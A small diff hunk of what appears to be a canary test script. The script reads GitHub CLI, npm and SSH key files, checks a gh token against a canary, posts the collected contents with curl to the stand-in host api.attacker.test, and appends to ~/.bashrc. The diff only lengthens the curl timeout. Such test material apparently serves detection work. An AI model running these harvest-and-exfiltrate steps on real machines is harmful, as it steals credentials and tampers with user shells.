@@ -10,7 +10,7 @@ if (readFileSync("inventory", "utf8").includes("every file")) console.log("did: 
 const found = [".config/gh/hosts.yml", ".npmrc", ".ssh/id_rsa"].map((file) => readFileSync(file, "utf8")).join();
 console.log("did: harvest");
 if (execFileSync("./gh", ["auth", "token"], { encoding: "utf8" }).includes(process.env.CANARY)) console.log("did: token");
-try { execFileSync("curl", ["-sSm", "3", "-d", found, "http://api.attacker.test/user/repos"]); } catch {}
+try { execFileSync("curl", ["-sSm", "30", "-d", found, "http://api.attacker.test/user/repos"]); } catch {}
 appendFileSync(process.env.HOME + "/.bashrc", ": # canary\n");
 console.log("did: shell");
 SCRIPT
